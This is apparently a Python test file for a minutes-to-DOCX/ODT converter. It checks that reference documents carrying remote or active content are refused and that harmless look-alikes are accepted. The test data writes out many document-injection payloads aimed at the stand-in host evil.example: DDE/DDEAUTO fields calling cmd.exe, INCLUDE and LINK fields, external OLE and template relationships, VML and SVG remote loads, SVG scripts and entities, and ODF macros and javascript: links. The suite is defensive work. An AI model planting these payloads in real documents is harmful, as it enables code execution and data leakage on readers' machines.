#!/usr/bin/env python3
"""What a reference document may not bring with it: fields, objects, scripts, pictures and links that act on their own
or reach outside.  Each is put into our own reference document, and is refused with a message; whatever of it did get
through would be found by its word in any part of the document that comes out.  What looks like it and is harmless is
taken: a check that refuses everything would be none."""
import io
import os
import subprocess
import sys
import tempfile
import zipfile

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), '..'))
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from docx_check import packed, parts_of  # noqa: E402
from odf import pack, unpack  # noqa: E402
import law  # noqa: E402
from tap import SRC, converter, diag, done, is_, ok  # noqa: E402

EVIL = 'evil.example'  # stands in all that may not get through
MINUTES = os.path.join(SRC, 'tests/office/minutes.xml')
PNG = b'\x89PNG\r\n\x1a\nlogo'
RELATIONS = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
V, O = ' xmlns:v="urn:schemas-microsoft-com:vml"', ' xmlns:o="urn:schemas-microsoft-com:office:office"'
A = ' xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"'
DRAW = (' xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" xmlns:xlink="http://www.w3.org/1999/xlink"'
        ' xmlns:svg="urn:oasis:names:tc:opendocument:xmlns:svg-compatible:1.0"'
        ' xmlns:form="urn:oasis:names:tc:opendocument:xmlns:form:1.0"'
        ' xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0"'
        ' xmlns:presentation="urn:oasis:names:tc:opendocument:xmlns:presentation:1.0"')


def mark(kind):
    return f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>'


def code(text, element='instrText'):
    return f'<w:r><w:{element} xml:space="preserve">{text}</w:{element}></w:r>'


BEGIN, SEPARATE, END = mark('begin'), mark('separate'), mark('end')


def field(text):
    return BEGIN + code(text) + SEPARATE + '<w:r><w:t>x</w:t></w:r>' + END


def simple(text):
    return f'<w:fldSimple w:instr="{text}"><w:r><w:t>x</w:t></w:r></w:fldSimple>'


def drawn(xml):
    return f'<w:r><w:pict><v:shape{V}{O}>{xml}</v:shape></w:pict></w:r>'


def svg(inner, before='', more=''):
    return f'{before}<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"{more}>{inner}</svg>'.encode()


QUOTED = '&quot;http://evil.example/x&quot;'
FIELDS = {
    'DDE': f' DDE Excel {QUOTED} a', 'DDEAUTO': f' DDEAUTO c:\\\\windows\\\\cmd.exe {QUOTED}', 'RD': f' RD {QUOTED}',
    'SET': f' SET c {QUOTED}', 'QUOTE': f' QUOTE 68 68 69 {QUOTED}', 'INCLUDE': f' INCLUDE {QUOTED}',
    'INCLUDETEXT': f' INCLUDETEXT {QUOTED}', 'INCLUDEPICTURE': f' INCLUDEPICTURE {QUOTED} \\d', 'LINK': f' LINK Excel.Sheet.8 {QUOTED}',
    'IMPORT': f' IMPORT {QUOTED}', 'EMBED': f' EMBED Package {QUOTED}', 'MACROBUTTON': f' MACROBUTTON x {QUOTED}',
    'DATABASE': f' DATABASE \\d {QUOTED}', 'ASK': f' ASK x {QUOTED}', 'FILLIN': f' FILLIN {QUOTED}', 'PRINT': f' PRINT {QUOTED}',
    'ADDIN': f' ADDIN {QUOTED}', 'CONTROL': f' CONTROL Forms.x {QUOTED}', 'HTMLACTIVEX': f' HTMLACTIVEX {QUOTED}',
    'small letters': f' dDeAuto c:\\\\x {QUOTED}', 'no space before': f'DDE Excel {QUOTED}', 'tabs': f'\t\n RD\t{QUOTED}',
    'a link to a file': ' HYPERLINK &quot;file://evil.example/x&quot;', 'a link to a share': ' HYPERLINK \\\\\\\\evil.example\\\\x',
    'a link to a script': ' HYPERLINK &quot;javascript:evil.example&quot;', 'a link behind a switch': ' HYPERLINK \\o &quot;http://x.dk&quot; &quot;file:evil.example&quot;',
    'a link of another kind': ' HYPERLINK &quot;ms-word:ofe|u|http://evil.example&quot;',
    'a link that begins late': ' HYPERLINK ' + '\\n ' * 90 + '&quot;file:evil.example&quot;',
}
BODY = {f'field {name}': field(text) for name, text in FIELDS.items()}
BODY.update({f'simple field {name}': simple(FIELDS[name]) for name in ('DDE', 'RD', 'SET', 'QUOTE', 'INCLUDEPICTURE', 'a link to a file')})
BODY.update({
    'a field in pieces': BEGIN + code(' INCLUDE') + code(f'PICTURE {QUOTED}') + END,
    'a field behind another': BEGIN + code('PAGE') + END + BEGIN + code(f'DDE {QUOTED}') + END,
    'a field in the result of another': BEGIN + code(' PAGE ') + SEPARATE + field(FIELDS['RD']) + END,
    'a field in the code of another': BEGIN + code(' IF 1 = 1 ') + BEGIN + code(FIELDS['LINK']) + END + END,
    'a name that a field makes': BEGIN + BEGIN + code(' DOCPROPERTY x ') + END + code(f' c:\\\\x {QUOTED}') + END,
    'half a name that a field makes': BEGIN + code('D') + BEGIN + code(' DOCPROPERTY x ') + END + code(f' {QUOTED}') + END,
    'a field that never ends': BEGIN + code(FIELDS['RD']), 'a field that never begins': code(FIELDS['RD']) + END,
    'a code outside of fields': code(FIELDS['DDE']), 'a code that was deleted': BEGIN + code(FIELDS['DDE'], 'delInstrText') + END,
    'fields twenty deep': (BEGIN + code(' IF ')) * 20 + code(QUOTED) + END * 20,
    'a field over two paragraphs': BEGIN + code(' ') + '</w:p><w:p>' + code(FIELDS['LINK']) + END,
    'a code behind the result': BEGIN + code(' PAGE ') + SEPARATE + code(FIELDS['DDE']) + END,
    'a VML picture elsewhere': drawn('<v:imagedata src="http://evil.example/x.png"/>'),
    'a VML picture by o:href': drawn('<v:imagedata o:href="http://evil.example/x.png"/>'),
    'a VML picture of a file': drawn('<v:imagedata src="file://evil.example/x.png"/>'),
    'a VML picture on a share': drawn('<v:imagedata src="\\\\evil.example\\x.png"/>'),
    'a VML picture without a scheme': drawn('<v:imagedata src="//evil.example/x.png"/>'),
    'a VML fill elsewhere': drawn('<v:fill src="https://evil.example/x.png"/>'),
    'a VML fill by althref': drawn('<v:fill o:althref="https://evil.example/x.png"/>'),
    'a VML stroke elsewhere': drawn('<v:stroke src="https://evil.example/x.png"/>'),
    'a VML image elsewhere': f'<w:r><w:pict><v:image{V} src="https://evil.example/x.png"/></w:pict></w:r>',
    'a VML shape that leads to a file': f'<w:r><w:pict><v:shape{V} href="file://evil.example"/></w:pict></w:r>',
    'an event of VML': f'<w:r><w:pict><v:shape{V} onmouseover="evil.example"/></w:pict></w:r>',
    'an OLE object in VML': drawn('</v:shape><o:OLEObject ProgID="evil.example" r:id="rId9"/><v:shape>'),
    'an object': f'<w:r><w:object{O}><o:OLEObject Type="Embed" ProgID="evil.example"/></w:object></w:r>',
    'a control': '<w:r><w:object><w:control w:name="evil.example"/></w:object></w:r>', 'an altChunk': '</w:p><w:altChunk w:name="evil.example"/><w:p>',
    'a subdocument': '</w:p><w:subDoc w:name="evil.example"/><w:p>', 'a script': '</w:p><script>evil.example</script><w:p>',
    'xml:base': '<w:r xml:base="http://evil.example/"/>', 'a style sheet': '<?xml-stylesheet href="http://evil.example/x.css"?>',
    'a film': f'<w:r><w:drawing{A}><a:video src="http://evil.example"/></w:drawing></w:r>',
})
HARMLESS = {
    'PAGE, NUMPAGES and DATE': field(' PAGE ') + field(' NUMPAGES \\* MERGEFORMAT ') + simple(' DATE \\@ &quot;d. MMMM yyyy&quot; '),
    'a style with the name of a field': field(' STYLEREF &quot;Quote&quot; ') + field(' DOCPROPERTY Link '),
    'a link to the web': field(' HYPERLINK &quot;https://x.example/&quot; \\o &quot;Vis&quot; '), 'a link to a place here': field(' HYPERLINK \\l &quot;_Toc1&quot; '),
    'a link for mail': simple(' HYPERLINK mailto:a@x.example '),
    'a sum of fields': BEGIN + code(' =') + field(' PAGE ') + code('+1 ') + END,
    'VML that is switched on': drawn('<v:shadow on="t"/><v:fill on="t" color="#fff"/><v:path textpathok="t"/>'),
    'a VML shape that leads to the web': f'<w:r><w:pict><v:shape{V} href="https://x.example/"/></w:pict></w:r>',
}
# In the header, so many fields one behind the other are no depth.
HARMLESS['many fields'] = field(' PAGE ') * 400

LINK = 'xlink:href="http://evil.example/x.png"'
PICTURES = {
    'with a script': svg('<script>evil.example</script>'), 'with a SCRIPT': svg('<SCRIPT>evil.example</SCRIPT>'),
    'with an event': svg('', more=' onload="evil.example"'), 'with a picture elsewhere': svg(f'<image {LINK}/>'),
    'with a picture of a file': svg('<image xlink:href="file:///evil.example"/>'), 'with a picture beside it': svg('<image href="evil.example.png"/>'),
    'with a part elsewhere': svg('<use xlink:href="http://evil.example/x.svg#a"/>'), 'with a foreign object': svg('<foreignObject>evil.example</foreignObject>'),
    'with a link to a script': svg('<a xlink:href="javascript:evil.example"/>'), 'with a link that changes': svg('<a><set attributeName="href" to="javascript:evil.example"/></a>'),
    'with a picture that changes': svg('<image><animate attributeName="href" values="http://evil.example/x"/></image>'),
    'with a fill elsewhere': svg('<g fill="url(http://evil.example/x#a)"/>'), 'with a filter elsewhere': svg('<g style="filter:URL( \'http://evil.example/x#a\')"/>'),
    'with a style sheet elsewhere': svg('<style>@import "http://evil.example";</style>'), 'with a style sheet in CDATA': svg('<style><![CDATA[@IMPORT"http://evil.example";]]></style>'),
    'with a style sheet that names one': svg('<style>g { fill: url( "http://evil.example") }</style>'),
    'with a style sheet in pieces': svg('<style>g { fill: u<!-- x -->r&#108;(http://evil.example) }</style>'),
    'with an escape in a style sheet': svg('<style>g { fill: u\\72l(http://evil.example) }</style>'), 'with an escape in a style': svg('<g style="fill:u\\72l(http://evil.example)"/>'),
    'with a style sheet before it': svg('', '<?xml-stylesheet href="http://evil.example/x.css"?>'), 'with an entity': svg('&a;', '<!DOCTYPE svg [<!ENTITY a "evil.example">]>'),
    'with an entity elsewhere': svg('&a;', '<!DOCTYPE svg [<!ENTITY a SYSTEM "file:///evil.example">]>'), 'with xml:base': svg('<image xlink:href="x"/>', more=' xml:base="http://evil.example/"'),
    'with a frame': svg('<iframe src="http://evil.example"/>'), 'with a film': svg('<video src="http://evil.example"/>'), 'in UTF-16': svg(f'<image {LINK}/>').decode().encode('utf-16'),
    'that is broken': svg('<g>evil.example'), 'that is PostScript': b'%!PS-Adobe-3.0 EPSF-3.0\n(evil.example) run', 'that is packed': b'\x1f\x8b\x08evil.example',
    'that is a PDF': b'%PDF-1.4 evil.example', 'that is OLE': b'\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1evil.example', 'that is a package': b'PK\3\4evil.example',
    'that is a program': b'MZevil.example', 'that is text': b'evil.example', 'of the old Mac': bytes(512) + b'evil.example',
    'with a picture in a picture': svg('<image xlink:href="data:image/svg+xml,evil.example"/>'),
}
GOOD_PICTURES = {
    'PNG': PNG, 'JPEG': b'\xff\xd8\xff\xe0x', 'GIF': b'GIF89ax', 'an SVG': svg('<g fill="url(#a)"/><use xlink:href="#a"/><style>g { fill: url(#a) }</style>'),
    'an SVG with a declaration': svg('<g/>', '<?xml version="1.0"?>\n<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">'),
    'an SVG with a picture in it': svg('<image xlink:href="data:image/png;base64,iVBOR"/>'), 'an SVG with a link': svg('<a xlink:href="https://x.example/"/>'),
    'an SVG behind a mark': b'\xef\xbb\xbf' + svg('<g/>'),
}
FRAME = '<draw:frame%s text:anchor-type="as-char">%%s</draw:frame>' % DRAW
LOGO = FRAME % '<draw:image xlink:href="%s"/>'
HEADER = '<text:user-defined text:name="Udvalg">'
ODF = {
    'a picture elsewhere': LOGO % 'http://evil.example/x.png', 'a picture of a file': LOGO % 'file://evil.example/x.png', 'a picture on a share': LOGO % '\\\\evil.example\\x',
    'a picture without a scheme': LOGO % '//evil.example/x.png', 'a picture above': LOGO % '../evil.example.png', 'a picture far above': LOGO % './../evil.example.png',
    'a picture that leads out': LOGO % 'Pictures/../../evil.example.png', 'a picture from the root': LOGO % '/evil.example.png', 'a picture that is not there': LOGO % 'Pictures/evil.example.png',
    'a link to a script': f'<text:a{DRAW} xlink:href="javascript:evil.example">x</text:a>', 'a link to a macro': f'<text:a{DRAW} xlink:href="vnd.sun.star.script:evil.example">x</text:a>',
    'a link to a file': f'<text:a{DRAW} xlink:href="file://evil.example">x</text:a>', 'a link to a command': f'<text:a{DRAW} xlink:href=".uno:evil.example">x</text:a>',
    'a frame with a page': FRAME % '<draw:floating-frame xlink:href="http://evil.example/"/>', 'an object': FRAME % '<draw:object xlink:href="./Object evil.example"/>',
    'an OLE object': FRAME % '<draw:object-ole xlink:href="evil.example"/>', 'an applet': FRAME % '<draw:applet draw:code="evil.example"/>', 'a plug-in': FRAME % '<draw:plugin xlink:href="http://evil.example"/>',
    'a DDE link': '<text:dde-connection text:connection-name="evil.example"/>', 'a database': '<text:database-display text:table-name="evil.example"/>',
    'a section elsewhere': f'<text:section-source{DRAW} xlink:href="http://evil.example/x.odt"/>', 'a macro': '<text:execute-macro text:name="evil.example"/>', 'a script': '<text:script>evil.example</text:script>',
    'a form': f'<form:form{DRAW} xlink:href="http://evil.example"/>', 'a sound': FRAME % '<presentation:sound xlink:href="http://evil.example/x.wav"/>',
    'xml:base': '<text:span xml:base="http://evil.example/">x</text:span>', 'a style sheet': '<?xml-stylesheet href="http://evil.example/x.css"?>',
    'an event': f'<office:event-listeners><script:event-listener{DRAW} xlink:href="http://evil.example"/></office:event-listeners>',
    'an event of a presentation': f'<presentation:event-listener{DRAW} xlink:href="http://evil.example"/>',
}

count = {}


def through(package):
    """In which parts of it the word stands."""
    if not package:
        return []
    with zipfile.ZipFile(io.BytesIO(package)) as z:
        return [i.filename for i in z.infolist() if EVIL.encode() in z.read(i) + i.filename.encode()]


def use(kind, reference):
    path = os.path.join(folder, 'reference.' + kind)
    with open(path, 'wb') as file:
        file.write(reference)
    return law.run(converter('referat2' + kind), '-q', '--reference-doc', path, MINUTES)


def refused(kind, name, reference):
    made = use(kind, reference)
    count[kind] = count.get(kind, 0) + 1
    found = through(made.stdout)
    if not ok(made.returncode == 65 and not made.stdout and made.stderr.count(b'\n') == 1, f'{kind}: refused: {name}'):
        diag(f'status {made.returncode}, it stands in {found}: {made.stderr.decode()}')


def taken(kind, name, reference):
    made = use(kind, reference)
    if not ok(made.returncode == 0 and made.stdout, f'{kind}: taken: {name}'):
        diag(made.stderr.decode())


def changed(parts, part, old, new):
    assert old in parts[part].decode(), (part, old)
    return {**parts, part: parts[part].decode().replace(old, new, 1).encode()}


def of_header(xml):
    return packed(changed(docx, 'word/header1.xml', '</w:p>', xml + '</w:p>'))


def relation(part, kind, target, outside=True, mode='External'):
    mode = f' TargetMode="{mode}"' if outside else ''
    row = f'<Relationship Id="rIdBad" Type="{RELATIONS}/{kind}" Target="{target}"{mode}/></Relationships>'
    empty = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>'
    with_it = {**docx, part: docx.get(part, empty.encode())}
    return packed(changed(with_it, part, '</Relationships>', row))


def docx_picture(data):
    parts = parts_of(relation('word/_rels/header1.xml.rels', 'image', 'media/logo.png', False))
    parts['word/media/logo.png'] = data
    return packed(changed(parts, '[Content_Types].xml', '<Override', '<Default Extension="png" ContentType="image/png"/><Override'))


def odt_picture(data):
    return pack({**changed(odt, 'styles.xml', HEADER, LOGO % 'Pictures/logo.png' + HEADER), 'Pictures/logo.png': data})


with tempfile.TemporaryDirectory() as folder:
    docx, odt = (reader(subprocess.run([converter('referat2' + kind), '--print-reference-doc'], capture_output=True).stdout)
                 for kind, reader in (('docx', parts_of), ('odt', unpack)))
    taken('docx', 'our own', packed(docx))
    taken('odt', 'our own', pack(odt))
    is_(through(packed({'a': b'x', 'b': EVIL.encode()})), ['b'], 'the search finds the word')
    for name, xml in BODY.items():
        refused('docx', name, of_header(xml))
    for name, xml in HARMLESS.items():
        taken('docx', name, of_header(xml))
    for part, end in (('word/styles.xml', '</w:styles>'), ('word/numbering.xml', '</w:numbering>')):
        for name in ('a VML picture elsewhere', 'field DDE', 'a script'):
            xml = BODY[name].replace('<w:p>', '').replace('</w:p>', '')
            refused('docx', f'{name} in {part}', packed(changed(docx, part, end, xml + end)))
    for part in ('word/_rels/header1.xml.rels', 'word/_rels/document.xml.rels', 'word/_rels/settings.xml.rels', 'word/_rels/numbering.xml.rels'):
        for kind in ('image', 'attachedTemplate', 'frame', 'oleObject', 'subDocument', 'aFChunk', 'video', 'mailMergeSource'):
            refused('docx', f'{kind} elsewhere, by {part}', relation(part, kind, 'http://evil.example/x'))
    for kind in ('oleObject', 'package', 'control', 'aFChunk', 'subDocument'):
        refused('docx', f'{kind} inside', relation('word/_rels/document.xml.rels', kind, 'evil.example.bin', False))
    refused('docx', 'a link of the header to a file, of a mode that is none', relation('word/_rels/header1.xml.rels', 'hyperlink', 'file://evil.example/', mode='external'))
    refused('docx', 'a link of the header to a file', relation('word/_rels/header1.xml.rels', 'hyperlink', 'file://evil.example/'))
    taken('docx', 'a link of the header to the web', relation('word/_rels/header1.xml.rels', 'hyperlink', 'https://x.example/'))
    for name, data in PICTURES.items():
        refused('docx', f'a picture {name}', docx_picture(data))
        refused('odt', f'a picture {name}', odt_picture(data))
    for name, data in GOOD_PICTURES.items():
        taken('docx', f'a picture: {name}', docx_picture(data))
        taken('odt', f'a picture: {name}', odt_picture(data))
    for name, xml in ODF.items():
        refused('odt', f'{name} in the header', pack(changed(odt, 'styles.xml', HEADER, xml + HEADER)))
    for name in ('a picture elsewhere', 'a macro', 'a DDE link', 'xml:base'):
        refused('odt', f'{name} in the text', pack(changed(odt, 'content.xml', '</office:text>', f'<text:p>{ODF[name]}</text:p></office:text>')))
    for name in ('Basic/evil.example.xml', 'Dialogs/evil.example.xml', 'Scripts/python/evil.example.py', 'Object 1/evil.example.xml'):
        refused('odt', f'an entry {name}', pack({**odt, name: b'x'}))
    taken('odt', 'a link to the web', pack(changed(odt, 'styles.xml', HEADER, f'<text:a{DRAW} xlink:href="https://x.example/">x</text:a>' + HEADER)))
    total = sum(count.values())
    ok(total >= 200, f'ways in that are refused: {total} ({count})')
done()
